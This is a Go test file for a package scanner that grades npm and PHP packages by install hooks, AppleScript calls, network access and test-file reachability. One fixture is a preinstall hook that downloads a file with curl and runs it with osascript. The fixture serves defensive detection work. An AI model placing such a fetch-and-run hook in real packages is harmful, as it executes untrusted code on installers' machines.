package scanner

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"plugvet/scanner/locate"
)

// plant writes files, by name and content.
func plant(t testing.TB, files map[string]string) string {
	t.Helper()
	root := t.TempDir()
	for name, content := range files {
		path := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

// scanPackage scans one npm package, whose files are given relative to it, and
// returns it as reported.
func scanPackage(t *testing.T, files map[string]string) Plugin {
	t.Helper()
	all := map[string]string{}
	for name, content := range files {
		all["node_modules/x/"+name] = content
	}
	report := mustScan(t, builtinOptions(t, plant(t, all)))
	if len(report.Plugins) != 1 {
		t.Fatalf("%d plugins", len(report.Plugins))
	}
	return report.Plugins[0]
}

// told returns the why of the one finding that has the severity, as "file:line
// first words" with files relative to the package.
func told(t *testing.T, p Plugin, severity Severity) []string {
	t.Helper()
	var told []string
	n := 0
	for _, f := range p.Findings {
		if f.Severity != severity {
			continue
		}
		n++
		for _, w := range f.Why {
			text, _, _ := strings.Cut(w.Text, ":")
			told = append(told, fmt.Sprintf("%s:%d %s", strings.TrimPrefix(w.Path, "node_modules/x/"), w.Line, text))
		}
	}
	if n != 1 {
		t.Errorf("%d findings are %s, want one: %+v", n, severity, p.Findings)
	}
	return told
}

const (
	runsScript = "const cp = require('child_process');\ncp.execFile('osascript', ['-e', 'beep']);\n"
	serves     = "const http = require('http');\nhttp.createServer(() => {}).listen(8080);\n"
	fetches    = "const https = require('https');\nhttps.get('https://example.com/x');\n"
	opensPort  = "require('net').connect(1);\n"
)

func packageJSON(rest string) string {
	return "{\"name\": \"x\", \"version\": \"1.0.0\"" + rest + "}\n"
}

func TestAnInstallHookIsToldWithWhatItLeadsTo(t *testing.T) {
	p := scanPackage(t, map[string]string{
		"package.json":      packageJSON(",\n\"scripts\": {\n\"postinstall\": \"node scripts/setup\"}"),
		"scripts/setup.js":  "\nrequire('../lib/get');\nrequire('../lib/run');\n",
		"lib/get/index.js":  fetches,
		"lib/run.js":        runsScript,
		"lib/unrelated.js":  opensPort,
		"lib/get/readme.md": "osascript",
	})
	want := []string{
		"package.json:3 install-hook",
		"scripts/setup.js:2 loads lib/get/index.js", "lib/get/index.js:1 network",
		"scripts/setup.js:3 loads lib/run.js", "lib/run.js:1 exec", "lib/run.js:2 applescript",
	}
	got := told(t, p, High)
	if !slices.Equal(got, want) {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}

func TestAHookWhoseFileIsGoneIsNoted(t *testing.T) {
	p := scanPackage(t, map[string]string{"package.json": packageJSON(",\n\"scripts\": {\"postinstall\": \"node ./lib/setup.js\"}")})
	if len(p.Notes) != 1 || p.Notes[0] != "node_modules/x/package.json:2 names lib/setup.js, which is not there" {
		t.Errorf("notes %q", p.Notes)
	}
}

// A hook that fetches and builds is what many packages have: it is told, and is
// no worse than before.
func TestAHookWithoutAppleScriptIsToldAndNotRaised(t *testing.T) {
	p := scanPackage(t, map[string]string{
		"package.json": packageJSON(",\n\"scripts\": {\"install\": \"node install.js\"}"),
		"install.js":   fetches + "require('child_process').execFileSync('make');\n",
	})
	if p.Severity.AtLeast(Medium) {
		t.Errorf("is %s", p.Severity)
	}
	i := slices.IndexFunc(p.Findings, func(f Finding) bool { return f.Why != nil })
	if i < 0 || len(p.Findings[i].Why) != 3 {
		t.Errorf("findings %+v", p.Findings)
	}
}

func TestAppleScriptIsRaisedByWhatItIsConnectedTo(t *testing.T) {
	padding := strings.Repeat("void 0;\n", bundle/8)
	for name, c := range map[string]struct {
		files map[string]string
		want  Severity
	}{
		"alone":                       {map[string]string{"index.js": runsScript}, Medium},
		"a hook that leads there":     {map[string]string{"index.js": runsScript, "package.json": packageJSON(`,"scripts":{"install":"node ."}`)}, High},
		"a hook that leads away":      {map[string]string{"index.js": runsScript, "other.js": "", "package.json": packageJSON(`,"scripts":{"install":"node other.js"}`)}, Medium},
		"a hook that builds":          {map[string]string{"index.js": runsScript, "package.json": packageJSON(`,"scripts":{"install":"node-gyp rebuild"}`)}, Medium},
		"a hook of unknown effect":    {map[string]string{"index.js": runsScript, "package.json": packageJSON(`,"scripts":{"install":"make"}`)}, High},
		"a hook whose file is gone":   {map[string]string{"index.js": runsScript, "package.json": packageJSON(`,"scripts":{"install":"node setup.js"}`)}, High},
		"a hook of a package within":  {map[string]string{"index.js": runsScript, "template/package.json": packageJSON(`,"scripts":{"install":"make"}`)}, Medium},
		"not a hook":                  {map[string]string{"index.js": runsScript, "package.json": packageJSON(`,"scripts":{"build":"node ."}`)}, Medium},
		"a download in the file":      {map[string]string{"index.js": runsScript + fetches}, High},
		"a download that it loads":    {map[string]string{"index.js": runsScript + "require('./f')", "f.js": fetches}, High},
		"a download that loads it":    {map[string]string{"index.js": runsScript, "f.js": fetches + "require('./')"}, High},
		"a server that loads it":      {map[string]string{"index.js": runsScript, "f.js": serves + "require('./')"}, Medium},
		"a server that fetches":       {map[string]string{"index.js": runsScript, "f.js": serves + fetches + "require('./')"}, High},
		"a download elsewhere":        {map[string]string{"index.js": runsScript, "f.js": fetches}, Medium},
		"a download far away":         {map[string]string{"index.js": runsScript + padding + fetches}, Medium},
		"a download near in a bundle": {map[string]string{"index.js": fetches + padding + runsScript + "fetch('https://example.com/');"}, High},
		"modules loaded together":     {map[string]string{"index.js": "const https = require('https'), cp = require('child_process');" + padding + "cp.execFile('osascript', ['-e', 'beep']);\n"}, Medium},
		"a download in its tests":     {map[string]string{"index.js": runsScript, "test/f.js": fetches + "require('../')"}, Medium},
	} {
		if c.files["package.json"] == "" {
			c.files["package.json"] = packageJSON("")
		}
		if p := scanPackage(t, c.files); p.Severity != c.want {
			t.Errorf("%s: is %s, want %s: %+v", name, p.Severity, c.want, p.Findings)
		}
	}
}

func TestAHookThatItselfRunsAppleScriptIsHigh(t *testing.T) {
	p := scanPackage(t, map[string]string{
		"package.json": packageJSON(",\n\"scripts\": {\"preinstall\": \"curl -o /tmp/x example.com && osascript /tmp/x\"}"),
	})
	want := []string{"package.json:2 install-hook", "package.json:2 applescript", "package.json:2 applescript", "package.json:2 network"}
	if got := told(t, p, High); !slices.Equal(got, want) {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}

// PHP runs a file before every request: one of its own, or of a package.
func TestAFileThatPHPPrependsIsAHook(t *testing.T) {
	const runs = "<?php\nshell_exec('osascript -e beep');\n"
	opts := builtinOptions(t, plant(t, map[string]string{
		"usr/local/etc/php/php.ini":          "auto_prepend_file=/srv/p.php\nopcache.preload=/app/vendor/a/b/tests/one.php\n",
		"srv/p.php":                          runs,
		"app/vendor/composer/installed.json": `{"packages": [{"name": "a/b", "version": "1.0.0", "install-path": "../a/b"}]}`,
		"app/vendor/a/b/tests/one.php":       "<?php\ninclude './two.php';\n",
		"app/vendor/a/b/tests/two.php":       runs,
		"app/vendor/a/b/tests/three.php":     runs,
	}))
	told := map[string]int{}
	for _, p := range mustScan(t, opts).Plugins {
		for _, f := range p.Findings {
			if f.Severity == High {
				told[f.Path] = len(f.Why)
			}
			if f.Noted != strings.HasSuffix(f.Path, "three.php") {
				t.Errorf("%s: noted is %t", f.Path, f.Noted)
			}
		}
	}
	if fmt.Sprint(told) != "map[app/vendor/a/b/tests/two.php:4 srv/p.php:3]" {
		t.Errorf("told %v", told)
	}
}

func TestMainLeadsToAppleScript(t *testing.T) {
	p := scanPackage(t, map[string]string{
		"package.json": packageJSON(",\n\"main\": \"lib\""),
		"lib/index.js": "\n\nrequire('./open')", "lib/open.js": runsScript,
	})
	want := []string{"package.json:2 main leads to lib/index.js", "lib/index.js:3 loads lib/open.js", "lib/open.js:2 applescript"}
	if got := told(t, p, Medium); !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestOwnTestsAreNotedUnlessSomethingLeadsThere(t *testing.T) {
	for name, c := range map[string]struct {
		files map[string]string
		noted bool
	}{
		"test":                       {map[string]string{"test/a.js": opensPort}, true},
		"nested, in capitals":        {map[string]string{"packages/y/__Tests__/a.js": opensPort}, true},
		"by its name":                {map[string]string{"lib/a.test.mjs": opensPort}, true},
		"a word that only begins so": {map[string]string{"tester/a.js": opensPort}, false},
		"loaded from outside":        {map[string]string{"test/a.js": opensPort, "index.js": "require('./test/a')"}, false},
		"loaded from a test":         {map[string]string{"test/a.js": opensPort, "test/b.js": "require('./a')"}, true},
		"loaded by way of a test":    {map[string]string{"test/a.js": opensPort, "test/b.js": "require('./a')", "index.js": "require('x/test/b.js')"}, false},
		"loaded by way of a package": {map[string]string{"test/a.js": opensPort, "test/package.json": `{"main": "a"}`, "index.js": "require('./test')"}, false},
		"main":                       {map[string]string{"test/a.js": opensPort, "package.json": packageJSON(`,"main":"test/a"`)}, false},
		"bin":                        {map[string]string{"test/a.js": opensPort, "package.json": packageJSON(`,"bin":{"x":"test/a.js"}`)}, false},
		"exports":                    {map[string]string{"test/a.js": opensPort, "package.json": packageJSON(`,"exports":{"./t/*":{"require":"./test/*.js"}}`)}, false},
		"exports of everything":      {map[string]string{"test/a.js": opensPort, "package.json": packageJSON(`,"exports":{"./*":"./*"}`)}, true},
		"install script":             {map[string]string{"test/a.js": opensPort, "package.json": packageJSON(`,"scripts":{"postinstall":"cd test; node a"}`)}, false},
		"test script":                {map[string]string{"test/a.js": opensPort, "package.json": packageJSON(`,"scripts":{"test":"node test/a"}`)}, true},
		"a shell script":             {map[string]string{"test/a.js": opensPort, "run.sh": "#!/bin/sh\nnode test/a.js\n"}, false},
		"too much to follow":         {map[string]string{"test/a.js": opensPort, "index.js": strings.Repeat("require('./b');", maxLoads+1)}, false},
	} {
		if c.files["package.json"] == "" {
			c.files["package.json"] = packageJSON("")
		}
		p := scanPackage(t, c.files)
		i := slices.IndexFunc(p.Findings, func(f Finding) bool { return f.Capability == "socket" })
		if i < 0 {
			t.Fatalf("%s: no finding", name)
		}
		if f := p.Findings[i]; f.Noted != c.noted || slices.Contains(p.Capabilities, "socket") == c.noted || c.noted && f.Severity != Info {
			t.Errorf("%s: noted is %t, severity %s, capabilities %v", name, f.Noted, f.Severity, p.Capabilities)
		}
	}
}

// node_modules/test is a package like any other.
func TestAPackageCalledTestIsNoTest(t *testing.T) {
	opts := builtinOptions(t, plant(t, map[string]string{
		"test/node_modules/test/package.json": `{"name": "test", "version": "1.0.0"}`, "test/node_modules/test/index.js": opensPort,
	}))
	if p := mustScan(t, opts).Plugins[0]; !slices.Contains(p.Capabilities, "socket") {
		t.Errorf("capabilities %v", p.Capabilities)
	}
}

func TestNativeCodeInTestsStaysWorthALook(t *testing.T) {
	findings := []Finding{{name: "test/a.node", Severity: Critical}, {name: "test/b.node", Severity: High}, {name: "a.node", Severity: High}, {Severity: High}}
	tell := teller{plugin: &locate.Plugin{Dir: true}, findings: findings}
	tell.note(nil)
	for i, want := range []Severity{Low, Info, High, High} {
		if findings[i].Severity != want || findings[i].Noted != (i < 2) {
			t.Errorf("%+v, want %s", findings[i], want)
		}
	}
}

func TestComposersPackagesAreNotedToo(t *testing.T) {
	socket := "<?php\nfsockopen('x', 1);\n"
	files := map[string]string{
		"vendor/composer/installed.json": `{"packages": [{"name": "a/b", "version": "1.0.0", "install-path": "../a/b"}]}`,
		"vendor/a/b/composer.json":       `{"autoload": {"files": ["Tests/loaded.php"], "psr-4": {"A\\": "src/"}}}`,
		"vendor/a/b/Tests/ATest.php":     socket,
		"vendor/a/b/Tests/loaded.php":    socket,
	}
	opts := builtinOptions(t, plant(t, files))
	for _, p := range mustScan(t, opts).Plugins {
		for _, f := range p.Findings {
			if noted := f.name == "Tests/ATest.php"; f.Noted != noted {
				t.Errorf("%s: noted is %t", f.Path, f.Noted)
			}
		}
	}
}

// What is noted is not approved, and an approval that came later vouches for the same.
func TestNotedCapabilitiesAreNotApproved(t *testing.T) {
	root := plant(t, map[string]string{
		"node_modules/x/package.json": packageJSON(""), "node_modules/x/test/a.js": opensPort + runsScript,
	})
	opts := builtinOptions(t, root)
	opts.Approved = approvalsOf(t, opts)
	for _, rematch := range []bool{false, true} {
		opts.Rematch = rematch
		p := mustScan(t, opts).Plugins[0]
		if len(p.Capabilities) != 0 || len(p.Undeclared) != 0 || p.Severity.AtLeast(Low) || p.Verdict != Approved {
			t.Errorf("rematch %t: capabilities %v, undeclared %v, %s, %s", rematch, p.Capabilities, p.Undeclared, p.Severity, p.Verdict)
		}
	}
	// A main that leads there makes them the plugin's.
	path := filepath.Join(root, "node_modules/x/package.json")
	if err := os.WriteFile(path, []byte(packageJSON(`,"main":"test/a.js"`)), 0o644); err != nil {
		t.Fatal(err)
	}
	p := mustScan(t, opts).Plugins[0]
	if fmt.Sprint(p.Undeclared) != "[applescript exec socket]" || p.Severity != Critical {
		t.Errorf("undeclared %v, %s", p.Undeclared, p.Severity)
	}
}

// What is found in a file of an approved plugin is carried with it, so that a gate
// does not tell it again; matching again does.
func TestAnApprovedPluginTellsItsFindingsWhenItIsMatchedAgain(t *testing.T) {
	broken, err := os.ReadFile("../testdata/fixtures/native/nasty/universal_thousand_slices.so")
	if err != nil {
		t.Fatal(err)
	}
	root := plant(t, map[string]string{
		"node_modules/x/package.json": packageJSON(`,"main":"test/a.node"`), "node_modules/x/test/a.node": string(broken),
		"node_modules/x/test/b.node": string(broken),
	})
	opts := builtinOptions(t, root)
	opts.Approved = approvalsOf(t, opts)
	for rematch, want := range map[bool]string{false: "map[]", true: "map[test/a.node:false test/b.node:true]"} {
		opts.Rematch = rematch
		noted := map[string]bool{}
		for _, f := range mustScan(t, opts).Plugins[0].Findings {
			noted[f.name] = f.Noted
		}
		if fmt.Sprint(noted) != want {
			t.Errorf("rematch %t: noted %v", rematch, noted)
		}
	}
}

// An ignore by the digest of one file says nothing about what another one makes of it.
func TestAnIgnoreOfOneFileDoesNotSilenceAStory(t *testing.T) {
	opts := builtinOptions(t, plant(t, map[string]string{
		"node_modules/x/package.json": packageJSON(`,"scripts":{"install":"node run.js"}`), "node_modules/x/run.js": runsScript,
	}))
	p := mustScan(t, opts).Plugins[0]
	f := p.Findings[slices.IndexFunc(p.Findings, func(f Finding) bool { return f.Severity == High })]
	ignore := Ignore{Rule: f.Rule, Path: "**", Digest: f.SHA256, Reason: "x"}
	ignore.Expires.UnmarshalText([]byte("2099-01-01"))
	for digest, want := range map[string]int{f.SHA256: 0, p.Tree: 1} {
		ignore.Digest = digest
		opts.Ignores = []Ignore{ignore}
		if report := mustScan(t, opts); len(report.Ignored) != want {
			t.Errorf("%s: %d ignored, want %d", digest, len(report.Ignored), want)
		}
	}
}
